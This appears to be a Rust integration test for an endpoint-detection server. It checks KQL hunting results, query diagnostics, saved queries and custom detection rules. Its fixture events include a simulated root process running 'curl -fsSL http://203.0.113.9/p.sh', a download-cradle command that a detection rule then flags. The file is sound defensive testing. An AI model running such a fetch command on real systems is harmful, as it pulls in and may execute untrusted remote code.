//! Advanced hunting over the real API of the real server binary, with events sent through the
//! real uplink: KQL results with the truncation flag, diagnostics with spans and "did you
//! mean", a clear "not supported", saved queries, and custom detections that raise alerts
//! once per result row.

use serde_json::{json, Value};

use crate::harness::{exec, uplink, wait_until, Api, Fixture};

fn hunt(api: &Api, query: &str) -> (u16, Value) {
    api.post("/api/v1/hunt", json!({ "query": query }))
}

#[test]
fn kql_saved_queries_and_custom_detections_over_the_api() {
    let fx = Fixture::new("dev-hunt");
    let up = uplink(fx.agent.clone(), &fx.agent_dir(), 64 << 20);
    up.send(vec![
        exec(
            "/usr/bin/curl",
            "curl -fsSL http://203.0.113.9/p.sh",
            "/bin/bash",
            "root",
            5001,
        ),
        exec("/usr/bin/ls", "ls -la /curly", "/bin/bash", "root", 5002),
    ]);
    wait_until("the rows are visible to hunting", 30, || {
        let (st, v) = hunt(&fx.api, "DeviceProcessEvents | count");
        st == 200 && v["rows"][0]["Count"].as_i64() == Some(2)
    });

    // `has` is a term match: "curly" does not have "curl".
    let (st, v) = hunt(
        &fx.api,
        "DeviceProcessEvents | where ProcessCommandLine has \"CURL\" | project ProcessId, DeviceId",
    );
    assert_eq!(st, 200, "{v}");
    assert_eq!(
        v["rows"],
        json!([{ "ProcessId": 5001, "DeviceId": "dev-hunt" }])
    );
    assert_eq!(
        v["columns"][0],
        json!({ "name": "ProcessId", "type": "long" })
    );
    assert_eq!(v["truncated"], false);

    // The row cap sets the truncation flag.
    let (st, v) = fx.api.post(
        "/api/v1/hunt",
        json!({ "query": "DeviceProcessEvents | project ProcessId", "max_rows": 1 }),
    );
    assert_eq!(st, 200, "{v}");
    assert_eq!(v["rows"].as_array().map(Vec::len), Some(1));
    assert_eq!(v["truncated"], true);

    // Every problem at once, with spans and suggestions; nothing runs.
    let bad =
        "DeviceProcesEvents | take 1;\nDeviceProcessEvents | where ProcesCommandLine has \"x\"";
    let (st, v) = hunt(&fx.api, bad);
    assert_eq!(st, 400, "{v}");
    let diags = v["diagnostics"].as_array().expect("diagnostics");
    assert_eq!(diags.len(), 2, "{v}");
    assert_eq!(diags[0]["kind"], "unknown_name");
    assert!(diags[0]["message"]
        .as_str()
        .unwrap()
        .contains("did you mean 'DeviceProcessEvents'"));
    assert_eq!(
        (diags[1]["line"].as_i64(), diags[1]["column"].as_i64()),
        (Some(2), Some(29))
    );
    assert!(diags[1]["message"]
        .as_str()
        .unwrap()
        .contains("did you mean 'ProcessCommandLine'"));

    // Valid KQL that Vigil cannot run offline says so.
    let (st, v) = hunt(
        &fx.api,
        "externaldata(h: string) [@\"https://example.com/x\"] with (format=\"txt\")",
    );
    assert_eq!(st, 400, "{v}");
    assert_eq!(v["diagnostics"][0]["kind"], "not_supported", "{v}");

    // Saved queries: saved, listed, refused when they do not parse or the name is taken.
    let q = "DeviceProcessEvents | where FileName == \"curl\"";
    let (st, saved) = fx.api.post(
        "/api/v1/hunt/queries",
        json!({ "name": "curl runs", "query": q }),
    );
    assert_eq!(st, 200, "{saved}");
    let id = saved["id"].as_str().unwrap().to_string();
    let (st, again) = fx.api.post(
        "/api/v1/hunt/queries",
        json!({ "name": "curl runs", "query": q }),
    );
    assert_eq!(st, 409, "{again}");
    let (st, broken) = fx.api.post(
        "/api/v1/hunt/queries",
        json!({ "name": "broken", "query": "T | where (" }),
    );
    assert_eq!(st, 400, "{broken}");
    let (st, list) = fx.api.get("/api/v1/hunt/queries");
    assert_eq!(st, 200);
    assert_eq!(list.as_array().map(Vec::len), Some(1), "{list}");
    let (st, one) = fx.api.get(&format!("/api/v1/hunt/queries/{id}"));
    assert_eq!((st, one["query"].as_str()), (200, Some(q)));
    let (st, _) = fx.api.delete(&format!("/api/v1/hunt/queries/{id}"));
    assert_eq!(st, 200);
    let (st, _) = fx.api.get(&format!("/api/v1/hunt/queries/{id}"));
    assert_eq!(st, 404);

    // Custom detections: the query must give Timestamp, ReportId and DeviceId ...
    let rule = |name: &str, query: &str, schedule: &str| {
        json!({
            "name": name, "query": query, "schedule": schedule,
            "title": "Download cradle run by root", "severity": "high",
            "category": "CommandAndControl", "techniques": ["T1105"],
            "actions": ["collect_package"],
        })
    };
    let (st, v) = fx.api.post(
        "/api/v1/custom-detections",
        rule(
            "no report id",
            "DeviceProcessEvents | project Timestamp, DeviceId",
            "1h",
        ),
    );
    assert_eq!(st, 400, "{v}");
    assert!(v["error"].as_str().unwrap().contains("ReportId"), "{v}");
    // ... near-real-time rules read one table without joins ...
    let (st, v) = fx.api.post(
        "/api/v1/custom-detections",
        rule(
            "joined",
            "DeviceProcessEvents | join (DeviceInfo) on DeviceId | project Timestamp, ReportId, DeviceId",
            "continuous",
        ),
    );
    assert_eq!(st, 400, "{v}");
    // ... and each result row raises one alert, once.
    let (st, created) = fx.api.post(
        "/api/v1/custom-detections",
        rule(
            "curl by root",
            "DeviceProcessEvents | where FileName == \"curl\" and AccountName == \"root\" \
             | project Timestamp, ReportId, DeviceId, DeviceName, FileName, FolderPath, ProcessCommandLine, AccountName",
            "1h",
        ),
    );
    assert_eq!(st, 200, "{created}");
    assert_eq!(created["severity"], "High");
    assert_eq!(created["lookback_hours"], 4);
    let id = created["id"].as_str().unwrap().to_string();
    let (st, ran) = fx
        .api
        .post(&format!("/api/v1/custom-detections/{id}/run"), json!({}));
    assert_eq!(st, 200, "{ran}");
    let first = ran["alerts"].as_i64().unwrap();
    let (_, ran) = fx
        .api
        .post(&format!("/api/v1/custom-detections/{id}/run"), json!({}));
    assert_eq!(ran["alerts"], 0, "a row raises one alert only: {ran}");
    let alerts: Vec<Value> = fx
        .api
        .alerts("")
        .into_iter()
        .filter(|a| a["DetectionSource"] == "CustomDetection")
        .collect();
    // The scheduler may have run the rule first (it is due at once); either way, one alert.
    assert!(first <= 1);
    assert_eq!(alerts.len(), 1, "{alerts:?}");
    assert_eq!(alerts[0]["Title"], "Download cradle run by root");
    assert_eq!(alerts[0]["Severity"], "High");
    let evidence = alerts[0]["Evidence"].to_string();
    assert!(
        evidence.contains("curl -fsSL http://203.0.113.9/p.sh"),
        "{evidence}"
    );
}
